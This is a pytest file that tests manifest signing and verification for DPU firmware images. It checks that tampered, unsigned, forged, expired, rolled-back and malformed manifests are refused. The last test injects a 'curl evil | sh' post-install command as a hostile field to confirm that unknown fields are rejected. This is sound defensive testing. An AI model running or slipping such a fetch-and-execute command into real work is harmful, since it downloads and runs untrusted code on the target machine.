"""Given a trust policy, only intact, trusted, current, non-rolled-back artifacts verify."""

from __future__ import annotations

import base64
import datetime as dt
import json

import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519

from dpufleet.crypto.signing import (
    Component,
    Manifest,
    ManifestRefused,
    Publisher,
    PublisherClass,
    RefusalReason,
    SignedManifest,
    TrustPolicy,
    digest,
    sign_manifest,
    verify_component,
    verify_manifest,
)

NOW = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)
IMAGE = b"an OS image for a BlueField-3"
VENDOR_KEY = ed25519.Ed25519PrivateKey.generate()


def manifest(**changes: object) -> Manifest:
    doc: dict[str, object] = {
        "name": "bf3-os",
        "version": "4.9.1",
        "sequence": 12,
        "components": [Component(name="rootfs.img", sha256=digest(IMAGE), size=len(IMAGE))],
        "compatibility": {"vendors": ["NVIDIA"], "models": ["BlueField-3"]},
        "publisher": Publisher(name="NVIDIA", **{"class": PublisherClass.VENDOR}),
        "issued": NOW - dt.timedelta(days=1),
        "expires": NOW + dt.timedelta(days=90),
    }
    doc.update(changes)
    return Manifest.model_validate(doc)


def policy() -> TrustPolicy:
    trust = TrustPolicy()
    trust.trust("NVIDIA", PublisherClass.VENDOR, VENDOR_KEY.public_key())
    trust.allow("tenant-a", PublisherClass.VENDOR, PublisherClass.OFFICIAL)
    trust.allow("lab", PublisherClass.PRIVATE)
    return trust


def refused(signed: SignedManifest | bytes, project: str = "tenant-a", **kwargs: object) -> RefusalReason:
    with pytest.raises(ManifestRefused) as exc:
        verify_manifest(signed, policy(), project, now=NOW, **kwargs)  # type: ignore[arg-type]
    assert exc.value.message
    return exc.value.reason


def test_a_signed_manifest_verifies_and_its_components_match() -> None:
    signed = sign_manifest(manifest(), VENDOR_KEY)
    verified = verify_manifest(signed.to_json(), policy(), "tenant-a", now=NOW, installed_sequence=11)
    assert verified.sequence == 12
    verify_component(verified, "rootfs.img", IMAGE)


def test_a_tampered_manifest_is_refused() -> None:
    doc = json.loads(sign_manifest(manifest(), VENDOR_KEY).to_json())
    doc["manifest"]["components"][0]["sha256"] = digest(b"malware")
    assert refused(json.dumps(doc).encode()) == RefusalReason.BAD_SIGNATURE


def test_a_tampered_component_is_refused() -> None:
    verified = verify_manifest(sign_manifest(manifest(), VENDOR_KEY), policy(), "tenant-a", now=NOW)
    with pytest.raises(ManifestRefused) as exc:
        verify_component(verified, "rootfs.img", IMAGE + b"!")
    assert exc.value.reason == RefusalReason.DIGEST_MISMATCH


def test_an_unsigned_manifest_is_refused() -> None:
    assert refused(SignedManifest(manifest=manifest(), signatures=[])) == RefusalReason.UNSIGNED


def test_a_manifest_signed_by_an_unknown_key_is_refused() -> None:
    assert refused(sign_manifest(manifest(), ed25519.Ed25519PrivateKey.generate())) == RefusalReason.UNKNOWN_KEY


def test_a_signature_by_another_key_under_a_trusted_key_id_is_refused() -> None:
    forged = sign_manifest(manifest(), ed25519.Ed25519PrivateKey.generate())
    wrong = forged.model_copy(
        update={
            "signatures": [
                forged.signatures[0].model_copy(
                    update={"keyid": sign_manifest(manifest(), VENDOR_KEY).signatures[0].keyid}
                )
            ]
        }
    )
    assert refused(wrong) == RefusalReason.BAD_SIGNATURE


def test_a_garbled_signature_is_refused() -> None:
    signed = sign_manifest(manifest(), VENDOR_KEY)
    bad = signed.model_copy(
        update={"signatures": [signed.signatures[0].model_copy(update={"sig": base64.b64encode(b"x" * 64).decode()})]}
    )
    assert refused(bad) == RefusalReason.BAD_SIGNATURE


def test_a_manifest_claiming_another_publisher_is_refused() -> None:
    claim = Publisher(name="NVIDIA", **{"class": PublisherClass.OFFICIAL})
    assert refused(sign_manifest(manifest(publisher=claim), VENDOR_KEY)) == RefusalReason.PUBLISHER_MISMATCH


def test_a_project_deploys_only_the_classes_it_allows() -> None:
    assert refused(sign_manifest(manifest(), VENDOR_KEY), project="lab") == RefusalReason.CLASS_NOT_ALLOWED


def test_an_expired_manifest_is_refused() -> None:
    old = manifest(issued=NOW - dt.timedelta(days=100), expires=NOW - dt.timedelta(seconds=1))
    assert refused(sign_manifest(old, VENDOR_KEY)) == RefusalReason.EXPIRED


def test_a_manifest_from_the_future_is_refused() -> None:
    assert (
        refused(sign_manifest(manifest(issued=NOW + dt.timedelta(days=1)), VENDOR_KEY)) == RefusalReason.NOT_YET_VALID
    )


def test_a_rollback_is_refused_unless_explicitly_allowed() -> None:
    signed = sign_manifest(manifest(sequence=10), VENDOR_KEY)
    assert refused(signed, installed_sequence=12) == RefusalReason.ROLLBACK
    assert (
        verify_manifest(signed, policy(), "tenant-a", now=NOW, installed_sequence=12, allow_downgrade=True).sequence
        == 10
    )


def test_malformed_envelopes_are_refused_as_malformed() -> None:
    for data in (b"", b"{", b"[]", b'{"manifest": {}}', b'{"manifest": null, "signatures": []}'):
        assert refused(data) == RefusalReason.MALFORMED


def test_unknown_fields_are_refused_not_ignored() -> None:
    doc = json.loads(sign_manifest(manifest(), VENDOR_KEY).to_json())
    doc["manifest"]["postInstall"] = "curl evil | sh"
    assert refused(json.dumps(doc).encode()) == RefusalReason.MALFORMED
